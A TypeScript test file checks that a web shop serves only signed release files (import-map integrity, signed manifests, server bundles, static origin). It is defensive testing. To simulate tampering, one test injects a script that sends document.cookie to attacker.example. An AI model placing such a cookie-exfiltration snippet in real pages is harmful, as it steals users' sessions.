/**
 * Only signed bytes are served (PCI DSS 6.4.3, 11.6.1): a page names every script with the
 * integrity of its signed bytes in an import map the policy admits by its hash; a version whose
 * signed manifest was altered, a shell whose index.html changed or that has no valid signed
 * manifest, and a server build that differs from its signed digest are never served or run; the
 * static origin sends a released file (and its brotli copy) only as signed, refusing and reporting
 * a changed one. On SQLite and PostgreSQL (DATABASE_URL).
 */
import { appendFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Fastify from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scriptHash } from '../../src/infra/http/security-headers.ts';
import { releaseIntegrity, deploy, readRegistry } from '@shop/release';
import { releaseKeys } from '../../src/domains/releases/release-keys.repository.ts';
import { shellHost } from '../../src/web/shell-host.ts';
import { buildStaticOrigin } from '../../src/web/static-origin.ts';
import { releasedFileCheck } from '../../src/web/verified-files.ts';
import { evaluateServerBundle } from '../../src/web/ssr/server-bundles.ts';
import { cartRoute, fakeAreaBuild } from '@shop/release/testing';
import { signedShop } from '../helpers/signed-shop.ts';
import type { TestApi } from '../helpers/test-api.ts';

const shop = signedShop();
const { originDir: origin, storage, shopKey, app, refusedVersions, inForce: liveCheckout, versionDir, hostOptions } = shop;
let api: TestApi;
let base = '';

beforeAll(async () => {
  ({ api, base } = await shop.start());
});
afterAll(shop.stop);

/** The import map of a page, and the policy it was served with. */
async function page(path = '/') {
  const response = await fetch(`${base}${path}`);
  const html = await response.text();
  const map = /<script type="importmap">(.*?)<\/script>/.exec(html)?.[1] ?? null;
  const config = JSON.parse(/<script type="application\/json" id="shop-config">(.*?)<\/script>/.exec(html)?.[1] ?? 'null') as {
    registry: { areas: Record<string, { version: string }> };
  } | null;
  return { status: response.status, policy: response.headers.get('content-security-policy') ?? '', map, config };
}
const sha384Of = (bytes: Buffer) => `sha384-${createHash('sha384').update(bytes).digest('base64')}`;

describe("a page's scripts", () => {
  it('each come with the integrity of its signed bytes, in an import map the policy admits by its hash', async () => {
    const { policy, map } = await page('/checkout/cart');
    expect(map).not.toBeNull();
    expect(policy).toContain(scriptHash(map!));
    const integrity = (JSON.parse(map!) as { integrity: Record<string, string> }).integrity;
    const version = await liveCheckout();
    const entry = `https://cdn.example/remotes/checkout/${version}/remoteEntry.js`;
    expect(Object.keys(integrity)).toEqual(
      expect.arrayContaining([entry, `https://cdn.example/remotes/checkout/${version}/assets/page.js`]),
    );
    for (const [url, expected] of Object.entries(integrity)) {
      const file = join(origin, url.replace('https://cdn.example/', ''));
      expect(sha384Of(readFileSync(file)), url).toBe(expected);
    }
    // Data and the server's own build are not scripts a browser runs.
    expect(Object.keys(integrity).some((url) => /\.json$|\/server\//.test(url))).toBe(false);
  });

  it('of a version whose signed manifest was altered on the origin are not served: the area is left out of the page', async () => {
    const version = await liveCheckout();
    const file = join(versionDir('checkout', version), 'release-manifest.json');
    const original = readFileSync(file, 'utf8');
    writeFileSync(file, original.replace(/"sha384": "[^"]+"/, `"sha384": "${createHash('sha384').update('evil').digest('base64')}"`));
    try {
      // Verified manifests are kept a minute: a fresh integrity reader sees the change at once.
      const fresh = await servePage();
      expect(fresh.status).toBe(200);
      expect(fresh.areas).not.toContain('checkout');
      expect(refusedVersions).toContain(`checkout ${version}`);
    } finally {
      writeFileSync(file, original);
    }
  });

  it('of a shell whose index.html changed on the origin (an inline script added) are not served (503): its policy would admit the script', async () => {
    const shell = (await readRegistry(storage)).shell!.version;
    const file = join(versionDir('shell', shell), 'index.html');
    const original = readFileSync(file, 'utf8');
    expect((await servePage()).status).toBe(200);
    writeFileSync(
      file,
      original.replace('<!--shop-config-->', '<script>fetch("https://attacker.example/?c="+document.cookie)</script><!--shop-config-->'),
    );
    try {
      expect((await servePage()).status).toBe(503);
    } finally {
      writeFileSync(file, original);
    }
  });

  it('of a server build that differs from its signed digest are never run on the server', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'server-bundle-'));
    try {
      const file = join(dir, 'entry.cjs');
      writeFileSync(file, 'exports.ran = true;');
      const signed = createHash('sha384').update('exports.ran = true;').digest('base64');
      expect(await evaluateServerBundle<{ ran: boolean }>(file, signed)).toEqual({ ran: true });
      writeFileSync(file, 'exports.ran = true; globalThis.__tampered = true;');
      await expect(evaluateServerBundle(file, signed)).rejects.toThrow(/differs from its signed release manifest/);
      expect((globalThis as { __tampered?: boolean }).__tampered).toBeUndefined();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('of a shell without a valid signed manifest are not served at all (503)', async () => {
    const shell = (await readRegistry(storage)).shell!.version;
    const file = join(versionDir('shell', shell), 'release-manifest.sig');
    const original = readFileSync(file, 'utf8');
    rmSync(file);
    try {
      expect((await servePage()).status).toBe(503);
    } finally {
      writeFileSync(file, original);
    }
  });
});

/** A page from a second server on the same origin (nothing cached), with the areas it serves. */
async function servePage() {
  const second = Fastify();
  const keys = releaseKeys(api.db);
  const integrity = releaseIntegrity({ storage, keys: () => keys.trusted() });
  await second.register(shellHost, { ...hostOptions(integrity), check: releasedFileCheck(integrity, () => undefined) });
  const response = await second.inject({ url: '/checkout/cart' });
  await second.close();
  const config = JSON.parse(
    /<script type="application\/json" id="shop-config">(.*?)<\/script>/.exec(response.body)?.[1] ?? '{"registry":{"areas":{}}}',
  ) as { registry: { areas: Record<string, unknown> } };
  return { status: response.statusCode, areas: Object.keys(config.registry.areas) };
}

describe('the static origin', () => {
  it('sends a released file only with its signed bytes (its brotli copy too); a changed one is refused and reported', async () => {
    const version = (
      await deploy({
        storage,
        part: 'checkout',
        distDir: fakeAreaBuild('checkout', { marker: 'origin', routes: [cartRoute], pageBytes: 200 }),
        packageVersion: '1.0.0',
        provenance: { who: 'ci' },
        signingKey: shopKey,
        overridePin: true,
      })
    ).version;
    const reported: string[] = [];
    const keys = releaseKeys(api.db);
    const assets = await buildStaticOrigin({
      storage,
      logger: app.log,
      check: releasedFileCheck(releaseIntegrity({ storage, keys: () => keys.trusted() }), (part, v, file) =>
        reported.push(`${part} ${v} ${file}`),
      ),
    });
    try {
      const get = (file: string, encoding = 'identity') =>
        assets.inject({ url: `/remotes/checkout/${version}/${file}`, headers: { 'accept-encoding': encoding } });
      expect((await get('assets/page.js')).statusCode).toBe(200);
      expect((await get('assets/page.js', 'br')).headers['content-encoding']).toBe('br');
      const chunk = join(versionDir('checkout', version), 'assets', 'page.js');
      appendFileSync(chunk, ';alert(1)');
      const refused = await get('assets/page.js');
      expect(refused.statusCode).toBe(404);
      expect(refused.json()).toEqual({ error: { code: 'not_found', message: 'Súbor sa nezhoduje s podpísaným vydaním.' } });
      // The intact brotli copy is not sent in its place either: the file is not as released.
      expect((await get('assets/page.js', 'br')).statusCode).toBe(404);
      expect(reported).toContain(`checkout ${version} assets/page.js`);
      expect((await get('remoteEntry.js')).statusCode).toBe(200);
    } finally {
      await assets.close();
    }
  });
});
